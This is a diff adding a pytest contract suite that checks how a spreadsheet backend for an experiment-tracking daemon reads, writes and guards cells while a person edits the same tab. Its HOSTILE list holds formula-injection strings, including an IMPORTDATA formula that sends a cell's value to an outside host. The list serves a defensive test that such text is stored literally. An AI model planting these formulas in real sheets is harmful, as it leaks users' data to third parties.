@@ -1,0 +1,285 @@
+"""What every `Sheet` promises the daemon, whatever is behind it.
+
+A rig is one empty tab and a person who works on it at the same time. A fake earns trust by passing this suite: add its
+rig to `RIGS`.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterator
+from contextlib import AbstractContextManager, contextmanager
+from pathlib import Path
+from typing import Protocol
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from sheetd.core.colours import Dress
+from sheetd.core.grid import BLANK, CellUpdate, CellValue, Grid, Replacement, SheetWrite
+from sheetd.errors import SheetRefused
+from sheetd.ports import Sheet
+from tests.sheets.builtin_rig import BuiltinPerson, builtin_sheet
+
+HEADER = ("template", "action", "status", "message", "lr", "id")
+STATUS, MESSAGE, LR, ID = 2, 3, 4, 5
+
+
+class Person(Protocol):
+    """Somebody with the sheet open in a browser. Rows and columns count from 0."""
+
+    def enter(self, row: int, column: int, text: str) -> None:
+        """Type into a cell: `0.1` becomes a number, `=A1` a formula."""
+
+    def insert_row(self, row: int) -> None: ...
+
+    def rename_tab(self, title: str) -> None: ...
+
+    def delete_tab(self) -> None: ...
+
+
+@contextmanager
+def builtin(folder: Path) -> Iterator[tuple[Sheet, Person]]:
+    with builtin_sheet(folder) as (sheet, address):
+        yield sheet, BuiltinPerson(address, "Experiments")
+
+
+RIGS: dict[str, Callable[[Path], AbstractContextManager[tuple[Sheet, Person]]]] = {"builtin": builtin}
+
+
+@pytest.fixture(scope="module", params=sorted(RIGS))
+def rig_of_module(
+    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[tuple[Sheet, Person]]:
+    with RIGS[request.param](tmp_path_factory.mktemp("sheet")) as rig:
+        yield rig
+
+
+@pytest.fixture(params=sorted(RIGS))
+def rig(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[Sheet, Person]]:
+    with RIGS[request.param](tmp_path) as rig:
+        write_cells(rig[0], {(0, column): text for column, text in enumerate(HEADER)})
+        yield rig
+
+
+def write_cells(sheet: Sheet, cells: dict[tuple[int, int], CellValue]) -> Grid:
+    updates = tuple(CellUpdate(row=row, column=column, value=value) for (row, column), value in cells.items())
+    return sheet.write(SheetWrite(tab_id=sheet.read().tab_id, updates=updates))
+
+
+def values(grid: Grid) -> list[list[CellValue]]:
+    return [[cell.value for cell in row] for row in grid.rows]
+
+
+def test_an_empty_tab_has_no_rows(tmp_path: Path):
+    for open_rig in RIGS.values():
+        with open_rig(tmp_path) as (sheet, _):
+            grid = sheet.read()
+            assert grid.rows == ()
+            assert grid.row_count >= 100
+            assert grid.column_count >= len(HEADER)
+            assert grid.title == "Experiments"
+
+
+def test_what_a_person_enters_is_read_typed_and_as_shown(rig: tuple[Sheet, Person]):
+    sheet, person = rig
+    for column, text in enumerate(["0.10", "TRUE", "hello", "'007", "=1/0"]):
+        person.enter(1, column, text)
+    number, truth, word, zeros, broken = sheet.read().rows[1]
+    assert (number.value, number.formula) == (0.1, None)
+    assert (truth.value, truth.shown) == (True, "TRUE")
+    assert (word.value, word.shown) == ("hello", "hello")
+    assert zeros.value == "007"
+    assert broken.formula == "=1/0"
+    assert broken.value is None
+    assert broken.error
+    assert broken.shown.startswith("#")
+
+
+def test_rows_are_ragged_and_what_is_not_there_is_blank(rig: tuple[Sheet, Person]):
+    sheet, person = rig
+    person.enter(3, 1, "x")
+    grid = sheet.read()
+    assert [len(row) for row in grid.rows] == [len(HEADER), 0, 0, 2]
+    assert grid.rows[3][0] is BLANK
+    assert grid.cell(50, 50) is BLANK
+
+
+def test_a_number_is_read_as_a_double(rig: tuple[Sheet, Person]):
+    sheet, person = rig
+    person.enter(1, LR, "3")
+    assert type(sheet.read().cell(1, LR).value) is float
+
+
+def test_the_grid_is_the_very_same_object_until_something_changes(rig: tuple[Sheet, Person]):
+    sheet, person = rig
+    before = sheet.read()
+    assert sheet.read() is before
+    person.enter(1, LR, "0.1")
+    after = sheet.read()
+    assert after is not before
+    assert sheet.read() is after
+
+
+def test_a_write_is_answered_with_the_tab_as_it_is_afterwards(rig: tuple[Sheet, Person]):
+    sheet, person = rig
+    person.enter(1, LR, "0.1")
+    answer = write_cells(sheet, {(1, STATUS): "running", (1, MESSAGE): "on gpu1"})
+    assert answer.cell(1, STATUS).value == "running"
+    assert answer.cell(1, LR).value == 0.1
+    assert sheet.read() is answer
+
+
+def test_a_write_after_a_person_inserted_a_row_shows_where_it_went(rig: tuple[Sheet, Person]):
+    sheet, person = rig
+    write_cells(sheet, {(1, ID): "b1", (2, ID): "b2"})
+    person.insert_row(1)
+    answer = write_cells(sheet, {(2, STATUS): "running"})
+    assert (answer.cell(2, ID).value, answer.cell(2, STATUS).value) == ("b1", "running")
+
+
+def test_a_write_touches_no_other_cell(rig: tuple[Sheet, Person]):
+    sheet, person = rig
+    for column in range(len(HEADER)):
+        person.enter(1, column, f"mine {column}")
+        person.enter(2, column, f"=A{column + 1}")
+    before = sheet.read()
+    after = write_cells(sheet, {(1, STATUS): "running", (2, STATUS): 3.0})
+    assert values(after)[1] == ["mine 0", "mine 1", "running", "mine 3", "mine 4", "mine 5"]
+    assert [cell for i, cell in enumerate(after.rows[2]) if i != STATUS] == [
+        cell for i, cell in enumerate(before.rows[2]) if i != STATUS
+    ]
+
+
+@pytest.mark.parametrize("value", ["text", 1.5, -0.0, 1e300, 5e-324, 2.0**53, True, False])
+def test_a_value_comes_back_with_its_type(rig: tuple[Sheet, Person], value: CellValue):
+    sheet, _ = rig
+    read = write_cells(sheet, {(1, LR): value}).cell(1, LR).value
+    assert (read, type(read)) == (value, type(value))
+
+
+def test_none_clears_a_cell_whatever_was_in_it(rig: tuple[Sheet, Person]):
+    sheet, person = rig
+    for column, text in enumerate(["=1+1", "TRUE", "3", "x"]):
+        person.enter(1, column, text)
+    assert write_cells(sheet, {(1, column): None for column in range(4)}).rows[1:] == ()
+
+
+HOSTILE = [
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "'quoted",
+    '=IMPORTDATA("http://example.org/?"&A1)',
+    "1,5",
+    "007",
+    "1e5",
+    "TRUE",
+    "2020-01-01",
+    "#REF!",
+    " leading",
+    "trailing\n",
+    "a\u202eb",
+    "\U0001f600",
+    '{"values":[',
+    "\\",
+    '"}]}',
+    "\u2028",
+]
+
+
+def test_text_comes_back_byte_for_byte_and_is_never_a_formula(rig: tuple[Sheet, Person]):
+    sheet, _ = rig
+    answer = write_cells(sheet, {(row, MESSAGE): text for row, text in enumerate(HOSTILE, start=1)})
+    for grid in (answer, sheet.read()):
+        cells = [grid.cell(row, MESSAGE) for row in range(1, len(HOSTILE) + 1)]
+        assert [cell.value for cell in cells] == HOSTILE
+        assert all(cell.formula is None and cell.error is None for cell in cells)
+
+
+@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(
+    texts=st.lists(
+        st.text(alphabet=st.characters(exclude_categories=("Cs",)), min_size=1, max_size=20), min_size=1, max_size=10
+    )
+)
+def test_any_text_comes_back_byte_for_byte(rig_of_module: tuple[Sheet, Person], texts: list[str]):
+    sheet, _ = rig_of_module
+    answer = write_cells(sheet, {(row, MESSAGE): text for row, text in enumerate(texts, start=1)})
+    assert [answer.cell(row, MESSAGE).value for row in range(1, len(texts) + 1)] == texts
+
+
+def test_an_id_is_replaced_wherever_it_is_now_as_a_whole_cell_of_its_column(rig: tuple[Sheet, Person]):
+    sheet, person = rig
+    write_cells(sheet, {(1, ID): "b1", (2, ID): "b1x", (3, ID): "B1", (1, MESSAGE): "b1"})
+    person.insert_row(1)
+    tab_id = sheet.read().tab_id
+    answer = sheet.write(SheetWrite(tab_id=tab_id, replacements=(Replacement(column=ID, old="b1", new="c2"),)))
+    assert [answer.cell(row, ID).value for row in range(2, 5)] == ["c2", "b1x", "B1"]
+    assert answer.cell(2, MESSAGE).value == "b1"
+
+
+def test_replacements_are_carried_out_before_updates(rig: tuple[Sheet, Person]):
+    sheet, _ = rig
+    tab_id = write_cells(sheet, {(1, ID): "b1"}).tab_id
+    update = CellUpdate(row=2, column=ID, value="b1")
+    answer = sheet.write(
+        SheetWrite(tab_id=tab_id, updates=(update,), replacements=(Replacement(column=ID, old="b1", new=""),))
+    )
+    assert [answer.cell(row, ID).value for row in (1, 2)] == [None, "b1"]
+
+
+def test_a_refused_write_changes_nothing_at_all(rig: tuple[Sheet, Person]):
+    sheet, _ = rig
+    before = sheet.read()
+    with pytest.raises(SheetRefused):
+        write_cells(sheet, {(1, STATUS): "running", (before.row_count + 5, STATUS): "beyond the last row"})
+    assert sheet.read() is before
+
+
+def test_an_empty_write_is_a_read(rig: tuple[Sheet, Person]):
+    sheet, _ = rig
+    assert sheet.write(SheetWrite(tab_id=sheet.read().tab_id)) is sheet.read()
+
+
+def test_a_tab_is_still_found_after_a_person_renamed_it(rig: tuple[Sheet, Person]):
+    sheet, person = rig
+    tab_id = sheet.read().tab_id
+    person.rename_tab("It's A1 now")
+    assert (sheet.read().tab_id, sheet.read().title) == (tab_id, "It's A1 now")
+    person.rename_tab("Again")
+    assert write_cells(sheet, {(1, STATUS): "running"}).title == "Again"
+
+
+def test_a_deleted_tab_is_refused_with_the_way_back_and_never_read_as_empty(rig: tuple[Sheet, Person]):
+    sheet, person = rig
+    grid = sheet.read()
+    person.delete_tab()
+    with pytest.raises(SheetRefused, match="was deleted"):
+        sheet.read()
+    with pytest.raises(SheetRefused, match=r"."):
+        sheet.write(SheetWrite(tab_id=grid.tab_id, updates=(CellUpdate(row=1, column=0, value="x"),)))
+
+
+def test_a_tab_is_dressed_once(rig: tuple[Sheet, Person]):
+    sheet, person = rig
+    grid = sheet.read()
+    dress = Dress(
+        tab_id=grid.tab_id,
+        status_column=STATUS,
+        action_column=1,
+        template_column=0,
+        owned_columns=(STATUS, MESSAGE, ID),
+        column_count=len(HEADER),
+        templates=("train", "eval"),
+    )
+    assert sheet.dress(dress)
+    assert not sheet.dress(dress)
+    person.insert_row(3)
+    write_cells(sheet, {(1, STATUS): "running"})
+    sheet.dress(dress)
+    assert not sheet.dress(dress)
+    assert sheet.read().rows[0] == grid.rows[0]
